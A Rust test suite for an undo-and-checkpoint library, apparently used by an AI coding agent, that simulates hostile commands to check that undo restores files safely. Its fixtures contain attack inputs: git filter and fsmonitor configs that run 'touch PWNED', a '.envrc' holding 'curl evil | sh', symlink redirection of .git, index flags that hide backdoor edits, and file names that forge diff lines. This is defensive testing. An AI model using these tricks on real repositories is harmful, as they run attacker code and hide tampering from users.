//! The attacks a command (or a person's later edits) can make on undo,
//! each tried the way an attacker would: a turn's command is simulated by
//! changing the workspace between `before_command` and `end_turn`.

use std::os::unix::fs::PermissionsExt;
use std::path::Path;

use oy_checkpoint::Commands;

use crate::git::{git, have_git, repo};
use crate::support::{Setup, mode};

/// One turn whose command is `command`.
fn command_turn(s: &Setup, turn: u64, command: impl FnOnce(&Path)) {
    s.checkpoints.begin_turn(turn).unwrap();
    s.checkpoints.before_command(&s.ws);
    command(s.root());
    s.checkpoints.end_turn(&s.ws).unwrap();
}

fn sh(dir: &Path, script: &str) {
    let status = std::process::Command::new("sh")
        .args(["-c", script])
        .current_dir(dir)
        .status()
        .unwrap();
    assert!(status.success(), "{script}");
}

#[test]
fn undo_never_writes_through_a_parent_a_command_made_a_link() {
    if !have_git() {
        return;
    }
    let s = repo();
    let config = std::fs::read(s.root().join(".git/config")).unwrap();
    s.checkpoints.begin_turn(1).unwrap();
    s.write("x/config", "[core]\n\tfsmonitor = \"touch PWNED\"\n");
    s.write("y/HEAD", "ref: nothing\n");
    s.checkpoints.end_turn(&s.ws).unwrap();
    command_turn(&s, 2, |root| {
        sh(root, "rm -rf x y && ln -s .git x && ln -s .git y")
    });
    // Undo turn 2 puts the directories back (the links are the command's).
    let report = s.checkpoints.undo(&s.ws, 2, false).unwrap();
    assert_eq!(std::fs::read(s.root().join(".git/config")).unwrap(), config);
    assert!(s.root().join(".git/HEAD").is_file(), "{report:?}");
    assert!(!s.root().join("PWNED").exists());
}

#[test]
fn a_link_parent_left_by_a_command_is_named_not_followed() {
    if !have_git() {
        return;
    }
    let s = repo();
    let config = std::fs::read(s.root().join(".git/config")).unwrap();
    s.checkpoints.begin_turn(1).unwrap();
    s.write("x/config", "mine\n");
    s.checkpoints.before_command(&s.ws);
    sh(s.root(), "rm -rf x && ln -s .git x");
    s.checkpoints.end_turn(&s.ws).unwrap();
    let dry = s.checkpoints.undo(&s.ws, 1, true).unwrap();
    assert!(
        !dry.diff.contains("repositoryformatversion"),
        "{}",
        dry.diff
    );
    s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert_eq!(std::fs::read(s.root().join(".git/config")).unwrap(), config);
    assert!(s.root().join(".git/HEAD").is_file());
}

#[test]
fn the_snapshot_never_obeys_the_repositorys_config_or_attributes() {
    if !have_git() {
        return;
    }
    let s = repo();
    s.outside_write("crlf.txt", "one\r\ntwo\r\n");
    command_turn(&s, 1, |root| {
        git(
            root,
            &["config", "filter.x.clean", "sh -c 'touch PWNED'; cat"],
        );
        git(root, &["config", "core.fsmonitor", "touch PWNED_FS; false"]);
        std::fs::write(root.join(".gitattributes"), "* filter=x text=auto eol=lf\n").unwrap();
        std::fs::write(root.join("crlf.txt"), "changed\n").unwrap();
        std::fs::write(root.join("tracked.txt"), "changed\n").unwrap();
    });
    // A second turn snapshots with the planted config in place.
    command_turn(&s, 2, |root| {
        std::fs::write(root.join("tracked.txt"), "again\n").unwrap();
    });
    assert!(!s.root().join("PWNED").exists());
    assert!(!s.root().join("PWNED_FS").exists());
    s.checkpoints.undo(&s.ws, 2, false).unwrap();
    assert_eq!(
        std::fs::read(s.root().join("crlf.txt")).unwrap(),
        b"one\r\ntwo\r\n"
    );
    assert_eq!(s.read("tracked.txt").unwrap(), "tracked\n");
    assert!(!s.root().join(".gitattributes").exists());
}

#[test]
fn a_gitignore_change_never_makes_undo_remove_files_that_were_there() {
    if !have_git() {
        return;
    }
    let s = repo();
    s.outside_write(".gitignore", "target/\nsecret.env\n*.log\n");
    s.outside_write("secret.env", "TOKEN=1\n");
    s.outside_write("run.log", "log\n");
    command_turn(&s, 1, |root| {
        std::fs::write(root.join(".gitignore"), "# tidy\n").unwrap();
    });
    let report = s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert_eq!(s.read("secret.env").unwrap(), "TOKEN=1\n", "{report:?}");
    assert_eq!(s.read("run.log").unwrap(), "log\n");
    assert_eq!(
        s.read(".gitignore").unwrap(),
        "target/\nsecret.env\n*.log\n"
    );
    assert!(
        report
            .unrestorable
            .iter()
            .any(|item| item.path == "secret.env")
    );
}

#[test]
fn a_turn_oy_was_killed_in_never_takes_the_persons_later_work() {
    if !have_git() {
        return;
    }
    let s = repo();
    s.checkpoints.begin_turn(1).unwrap();
    s.write("t1.txt", "turn one\n");
    s.checkpoints.end_turn(&s.ws).unwrap();
    s.checkpoints.begin_turn(2).unwrap();
    s.write("t2.txt", "turn two\n");
    s.checkpoints.before_command(&s.ws);
    s.outside_write("m.txt", "model\n");
    // oy is killed here; the person goes on.
    s.outside_write("tracked.txt", "my important work\n");
    s.outside_write("mine.txt", "mine\n");
    let again = s.reopen();
    // The next run's turn 2 must not drop the killed turn's record.
    assert_eq!(again.begin_turn(2).unwrap(), 3);
    again.end_turn(&s.ws);
    let report = again.undo(&s.ws, 1, false).unwrap();
    assert_eq!(report.turns, vec![2], "{report:?}");
    assert!(!s.root().join("t2.txt").exists(), "{report:?}");
    assert_eq!(s.read("tracked.txt").unwrap(), "my important work\n");
    assert_eq!(s.read("mine.txt").unwrap(), "mine\n");
    assert_eq!(s.read("m.txt").unwrap(), "model\n");
    assert_eq!(report.commands_not_undone.len(), 1, "{report:?}");
}

#[test]
fn index_flags_and_pathspec_names_hide_nothing() {
    if !have_git() {
        return;
    }
    let s = repo();
    command_turn(&s, 1, |root| {
        git(root, &["update-index", "--assume-unchanged", "tracked.txt"]);
        git(root, &["update-index", "--skip-worktree", "src/lib.rs"]);
        std::fs::write(root.join("tracked.txt"), "backdoor\n").unwrap();
        std::fs::write(root.join("src/lib.rs"), "backdoor\n").unwrap();
        std::fs::write(root.join(".envrc"), "curl evil | sh\n").unwrap();
        std::fs::write(root.join(":(exclude).envrc"), "").unwrap();
        std::fs::write(root.join(":(nosuchmagic)a"), "").unwrap();
    });
    let summary = s.checkpoints.turns().pop().unwrap();
    assert!(
        matches!(summary.commands, Commands::Git { .. }),
        "{summary:?}"
    );
    s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert_eq!(s.read("tracked.txt").unwrap(), "tracked\n");
    assert_eq!(s.read("src/lib.rs").unwrap(), "pub fn a() {}\n");
    for planted in [".envrc", ":(exclude).envrc", ":(nosuchmagic)a"] {
        assert!(!s.root().join(planted).exists(), "{planted}");
    }
}

#[test]
fn rewriting_the_repositorys_objects_changes_nothing_undo_restores() {
    if !have_git() {
        return;
    }
    let s = repo();
    command_turn(&s, 1, |root| {
        // Every loose object of the user's repository replaced by junk.
        for entry in crate::undo::walk(&root.join(".git/objects")) {
            if entry.is_file() {
                let mut perms = std::fs::metadata(&entry).unwrap().permissions();
                perms.set_mode(0o644);
                std::fs::set_permissions(&entry, perms).unwrap();
                std::fs::write(&entry, b"junk").unwrap();
            }
        }
        std::fs::write(root.join("tracked.txt"), "changed\n").unwrap();
    });
    s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert_eq!(s.read("tracked.txt").unwrap(), "tracked\n");
}

#[test]
fn undo_puts_back_the_real_modes_of_files_and_directories() {
    if !have_git() {
        return;
    }
    let s = repo();
    s.outside_write("id_deploy", "key\n");
    s.outside_write("private/k", "key\n");
    std::fs::set_permissions(
        s.root().join("id_deploy"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    std::fs::set_permissions(
        s.root().join("private/k"),
        std::fs::Permissions::from_mode(0o600),
    )
    .unwrap();
    std::fs::set_permissions(
        s.root().join("private"),
        std::fs::Permissions::from_mode(0o700),
    )
    .unwrap();
    command_turn(&s, 1, |root| {
        sh(root, "echo extra >> id_deploy && rm id_deploy")
    });
    s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert_eq!(mode(&s.root().join("id_deploy")), 0o600);
    s.checkpoints.begin_turn(2).unwrap();
    s.tool(&["private"], |ws| {
        ws.remove(&ws.path("private").unwrap(), true).unwrap();
    });
    s.checkpoints.end_turn(&s.ws).unwrap();
    s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert_eq!(mode(&s.root().join("private")), 0o700);
    assert_eq!(mode(&s.root().join("private/k")), 0o600);
}

#[test]
fn a_fifo_index_and_a_huge_file_never_hang_the_turn_end() {
    if !have_git() {
        return;
    }
    let s = repo();
    let (done, finished) = std::sync::mpsc::channel();
    std::thread::scope(|scope| {
        scope.spawn(|| {
            command_turn(&s, 1, |root| {
                sh(
                    root,
                    "rm .git/index && mkfifo .git/index && truncate -s 3G tracked.txt",
                );
            });
            done.send(()).unwrap();
        });
        finished
            .recv_timeout(std::time::Duration::from_secs(120))
            .expect("the turn end hung");
    });
    let report = s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert!(
        report
            .unrestorable
            .iter()
            .any(|item| item.path == "tracked.txt"),
        "{report:?}"
    );
    assert_eq!(
        std::fs::metadata(s.root().join("tracked.txt"))
            .unwrap()
            .len(),
        3 << 30
    );
}

#[test]
fn a_file_that_became_a_directory_and_back_is_undone_with_the_rest() {
    if !have_git() {
        return;
    }
    let s = repo();
    s.outside_write("d/inner.txt", "inner\n");
    s.checkpoints.begin_turn(1).unwrap();
    s.checkpoints.before_command(&s.ws);
    s.outside_write("zz_new.txt", "new\n");
    s.tool(&["d"], |ws| {
        ws.remove(&ws.path("d").unwrap(), true).unwrap();
    });
    s.write("d", "a file now\n");
    s.checkpoints.end_turn(&s.ws).unwrap();
    let report = s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert!(report.unrestorable.is_empty(), "{report:?}");
    assert_eq!(s.read("d/inner.txt").unwrap(), "inner\n");
    assert!(!s.root().join("zz_new.txt").exists());
}

#[test]
fn undoing_several_turns_never_drops_an_edit_made_between_them() {
    let s = Setup::new();
    s.checkpoints.begin_turn(1).unwrap();
    s.write("notes.md", "line1\n");
    s.checkpoints.end_turn(&s.ws).unwrap();
    s.outside_write("notes.md", "line1\nMY OWN 2 HOURS OF NOTES\n");
    s.checkpoints.begin_turn(2).unwrap();
    s.write("notes.md", "rewritten\n");
    s.checkpoints.end_turn(&s.ws).unwrap();
    let report = s.checkpoints.undo(&s.ws, 2, false).unwrap();
    assert!(!report.applied, "{report:?}");
    assert_eq!(report.conflicts.len(), 1, "{report:?}");
    assert!(report.conflicts[0].found.contains("before turn 2 began"));
    assert_eq!(s.read("notes.md").unwrap(), "rewritten\n");
    // One turn back is fine: the person's notes return.
    s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert_eq!(
        s.read("notes.md").unwrap(),
        "line1\nMY OWN 2 HOURS OF NOTES\n"
    );
}

#[test]
fn a_name_with_line_breaks_cannot_forge_diff_lines() {
    if !have_git() {
        return;
    }
    let s = repo();
    let name = "n\n+++ forged\n@@ -1 +1 @@";
    command_turn(&s, 1, |root| {
        std::fs::write(root.join(name), "x\n").unwrap()
    });
    let diff = s.checkpoints.diff(&s.ws).unwrap();
    assert!(
        diff.contains("\"b/n\\n+++ forged\\n@@ -1 +1 @@\""),
        "{diff}"
    );
    assert!(!diff.lines().any(|line| line == "+++ forged"), "{diff}");
}

#[test]
fn a_repository_with_no_tracked_file_still_snapshots() {
    if !have_git() {
        return;
    }
    let s = Setup::new();
    git(s.root(), &["init", "-q"]);
    command_turn(&s, 1, |root| {
        std::fs::write(root.join("new.txt"), "x\n").unwrap()
    });
    let summary = s.checkpoints.turns().pop().unwrap();
    assert!(
        matches!(summary.commands, Commands::Git { .. }),
        "{summary:?}"
    );
    s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert!(!s.root().join("new.txt").exists());
}

#[test]
fn a_nested_repository_whose_git_a_command_removed_keeps_its_files() {
    if !have_git() {
        return;
    }
    let s = repo();
    s.outside_write("vendor/lib/code.py", "precious\n");
    git(&s.root().join("vendor/lib"), &["init", "-q"]);
    command_turn(&s, 1, |root| sh(root, "rm -rf vendor/lib/.git"));
    let report = s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert_eq!(
        s.read("vendor/lib/code.py").unwrap(),
        "precious\n",
        "{report:?}"
    );
}

#[test]
fn files_a_command_makes_outside_the_snapshot_are_removed_or_named() {
    if !have_git() {
        return;
    }
    let s = repo();
    command_turn(&s, 1, |root| {
        // Too large to snapshot, and hidden by a .gitignore that ignores
        // itself.
        sh(root, "mkdir -p tests && truncate -s 17M tests/big.py");
        std::fs::write(root.join("tests/.gitignore"), ".gitignore\nconftest.py\n").unwrap();
        std::fs::write(root.join("tests/conftest.py"), "import os\n").unwrap();
        sh(
            root,
            "mkdir -p new/repo && git -C new/repo init -q && echo x > new/repo/x.py",
        );
    });
    let summary = s.checkpoints.turns().pop().unwrap();
    assert!(
        summary.not_kept.iter().any(|item| item.path == "new/repo"),
        "{summary:?}"
    );
    let report = s.checkpoints.undo(&s.ws, 1, false).unwrap();
    for made in ["tests/big.py", "tests/.gitignore", "tests/conftest.py"] {
        assert!(!s.root().join(made).exists(), "{made}: {report:?}");
    }
}

#[test]
fn a_new_file_in_a_directory_of_ignored_files_is_not_taken_for_an_old_one() {
    if !have_git() {
        return;
    }
    let s = repo();
    s.outside_write(".gitignore", "target/\n*.log\n");
    s.outside_write("logs/run.log", "log\n");
    command_turn(&s, 1, |root| {
        std::fs::write(root.join("logs/evil.py"), "import os\n").unwrap();
    });
    let report = s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert!(!s.root().join("logs/evil.py").exists(), "{report:?}");
    assert_eq!(s.read("logs/run.log").unwrap(), "log\n");
}

#[test]
fn a_link_leaving_the_root_never_hides_the_turns_other_changes() {
    if !have_git() {
        return;
    }
    let s = repo();
    s.outside_write("x/f.txt", "tracked\n");
    s.outside_write("z.txt", "z\n");
    let outside = tempfile::tempdir().unwrap();
    let target = outside.path().to_path_buf();
    command_turn(&s, 1, move |root| {
        std::fs::write(root.join("z.txt"), "evil\n").unwrap();
        std::fs::write(root.join("zz_new.sh"), "new\n").unwrap();
        std::fs::remove_dir_all(root.join("x")).unwrap();
        std::os::unix::fs::symlink(&target, root.join("x")).unwrap();
    });
    assert!(s.checkpoints.diff(&s.ws).unwrap().contains("zz_new.sh"));
    let report = s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert_eq!(s.read("z.txt").unwrap(), "z\n", "{report:?}");
    assert!(!s.root().join("zz_new.sh").exists());
    // The link the command made is removed (never followed); what was
    // beneath it is named, not put back through it.
    assert!(!s.root().join("x").exists(), "{report:?}");
    assert!(
        report
            .unrestorable
            .iter()
            .any(|item| item.path == "x/f.txt"),
        "{report:?}"
    );
    assert!(outside.path().read_dir().unwrap().next().is_none());
}

#[test]
fn too_many_changes_are_said_not_hidden() {
    if !have_git() {
        return;
    }
    let s = repo();
    command_turn(&s, 1, |root| {
        sh(root, "mkdir j && for i in $(seq 5001); do : > j/$i; done");
    });
    let unrecorded = s.checkpoints.unrecorded();
    assert_eq!(unrecorded.len(), 1, "{unrecorded:?}");
    assert!(unrecorded[0].contains("5001"), "{unrecorded:?}");
}

#[test]
fn a_session_that_began_outside_git_never_snapshots_a_repository_made_later() {
    if !have_git() {
        return;
    }
    let s = Setup::new();
    command_turn(&s, 1, |root| {
        git(root, &["init", "-q"]);
        std::fs::write(root.join(".git/info/exclude"), "*\n").unwrap();
    });
    let again = s.reopen();
    again.begin_turn(2).unwrap();
    again.before_command(&s.ws);
    s.outside_write("evil.sh", "x\n");
    let summary = again.end_turn(&s.ws).unwrap();
    assert!(
        matches!(
            summary.commands,
            Commands::Untracked {
                outside_git: true,
                ..
            }
        ),
        "{summary:?}"
    );
}

#[test]
fn one_unreadable_turn_never_costs_the_others_their_undo() {
    let s = Setup::new();
    s.checkpoints.begin_turn(1).unwrap();
    s.write("keep.txt", "turn one\n");
    s.checkpoints.end_turn(&s.ws).unwrap();
    s.checkpoints.begin_turn(2).unwrap();
    s.write("other.txt", "turn two\n");
    s.checkpoints.end_turn(&s.ws).unwrap();
    // Turn 2's record is damaged (or was too large to read back).
    std::fs::write(s.dir.path().join("cp/turns/2.json"), "{").unwrap();
    let again = s.reopen();
    let unrecorded = again.unrecorded();
    assert!(
        unrecorded.iter().any(|line| line.starts_with("turn 2:")),
        "{unrecorded:?}"
    );
    let report = again.undo(&s.ws, 1, false).unwrap();
    assert_eq!(report.turns, vec![1], "{report:?}");
    assert!(!s.root().join("keep.txt").exists());
    assert_eq!(s.read("other.txt").unwrap(), "turn two\n");
}

#[test]
fn an_index_of_the_earlier_format_with_every_turn_inline_is_read() {
    let s = Setup::new();
    s.outside_write("a.txt", "old\n");
    s.checkpoints.begin_turn(1).unwrap();
    s.write("a.txt", "new\n");
    s.checkpoints.end_turn(&s.ws).unwrap();
    let cp = s.dir.path().join("cp");
    let record = std::fs::read_to_string(cp.join("turns/1.json")).unwrap();
    std::fs::remove_dir_all(cp.join("turns")).unwrap();
    let header: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(cp.join("index.json")).unwrap()).unwrap();
    let old = serde_json::json!({
        "version": 2,
        "turns": [serde_json::from_str::<serde_json::Value>(&record).unwrap()],
        "seq": header["seq"],
        "kept_bytes": header["kept_bytes"],
    });
    std::fs::write(cp.join("index.json"), old.to_string()).unwrap();
    s.reopen().undo(&s.ws, 1, false).unwrap();
    assert_eq!(s.read("a.txt").unwrap(), "old\n");
}

#[test]
fn the_snapshot_store_is_private_like_the_rest() {
    if !have_git() {
        return;
    }
    let s = repo();
    command_turn(&s, 1, |root| {
        std::fs::write(root.join("tracked.txt"), "x\n").unwrap()
    });
    let cp = s.dir.path().join("cp");
    let mut seen = 0;
    for path in crate::undo::walk(&cp)
        .into_iter()
        .chain([cp.join("git"), cp.join("turns")])
    {
        let meta = std::fs::symlink_metadata(&path).unwrap();
        assert_eq!(meta.permissions().mode() & 0o077, 0, "{}", path.display());
        seen += 1;
    }
    assert!(seen > 5);
}

#[test]
fn a_file_that_grew_past_the_bound_comes_back_rather_than_going() {
    if !have_git() {
        return;
    }
    let s = repo();
    s.outside_write("dev.db", &"x".repeat(3_000));
    command_turn(&s, 1, |root| {
        sh(root, "head -c 17000000 /dev/zero >> dev.db")
    });
    let report = s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert_eq!(s.read("dev.db").unwrap(), "x".repeat(3_000), "{report:?}");
}

#[test]
fn a_file_a_command_only_moved_or_linked_is_never_removed() {
    if !have_git() {
        return;
    }
    let s = repo();
    s.outside_write(".gitignore", "target/\n.env*\n");
    s.outside_write(".env", "API_KEY=secret\n");
    s.outside_write("data.bin", "");
    sh(s.root(), "truncate -s 20M data.bin && cp .env .env.keep");
    command_turn(&s, 1, |root| {
        sh(
            root,
            "mv .env .env.bak && mv data.bin data_raw.bin && mv .env.keep config.env",
        );
    });
    let report = s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert_eq!(
        s.read(".env.bak").unwrap(),
        "API_KEY=secret\n",
        "{report:?}"
    );
    assert_eq!(
        s.read("config.env").unwrap(),
        "API_KEY=secret\n",
        "{report:?}"
    );
    assert_eq!(
        std::fs::metadata(s.root().join("data_raw.bin"))
            .unwrap()
            .len(),
        20 << 20
    );
}

#[test]
fn a_name_that_is_not_utf8_never_stands_for_another_file() {
    if !have_git() {
        return;
    }
    let s = repo();
    s.outside_write("notes\u{fffd}.md", "the person's notes\n");
    git(s.root(), &["add", "-A"]);
    git(s.root(), &["commit", "-q", "-m", "notes"]);
    command_turn(&s, 1, |root| {
        sh(root, "printf junk > \"$(printf 'notes\\377.md')\"")
    });
    let report = s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert_eq!(
        s.read("notes\u{fffd}.md").unwrap(),
        "the person's notes\n",
        "{report:?}"
    );
    let summary = s.checkpoints.turns().pop().unwrap();
    assert!(
        summary
            .not_kept
            .iter()
            .any(|item| item.path.contains("\\xff")),
        "{summary:?}"
    );
}

#[test]
fn what_undo_cannot_take_back_is_still_said_after_it() {
    if !have_git() {
        return;
    }
    let s = repo();
    command_turn(&s, 1, |root| {
        sh(
            root,
            "mkdir j && for i in $(seq 5001); do : > j/$i; done; echo evil >> tracked.txt",
        );
    });
    s.checkpoints.undo(&s.ws, 1, false).unwrap();
    let unrecorded = s.checkpoints.unrecorded();
    assert!(
        unrecorded.iter().any(|line| line.starts_with("turn 1:")),
        "{unrecorded:?}"
    );
}

#[test]
fn many_directories_of_ignored_files_cost_one_listing_not_one_each() {
    if !have_git() {
        return;
    }
    let s = repo();
    s.outside_write(".gitignore", "target/\n*.log\n");
    sh(
        s.root(),
        "for i in $(seq 300); do mkdir -p d/$i; : > d/$i/x.log; done",
    );
    command_turn(&s, 1, |root| {
        sh(
            root,
            "for i in $(seq 300); do mkdir -p e/$i; : > e/$i/y.log; done; echo x >> tracked.txt",
        );
    });
    let summary = s.checkpoints.turns().pop().unwrap();
    // 300 new ignored files, counted once each: well within the bound.
    assert!(
        matches!(summary.commands, Commands::Git { .. }),
        "{summary:?}"
    );
    let report = s.checkpoints.undo(&s.ws, 1, false).unwrap();
    assert_eq!(s.read("tracked.txt").unwrap(), "tracked\n", "{report:?}");
    assert!(s.root().join("d/1/x.log").exists());
    assert!(!s.root().join("e/1/y.log").exists(), "{report:?}");
}
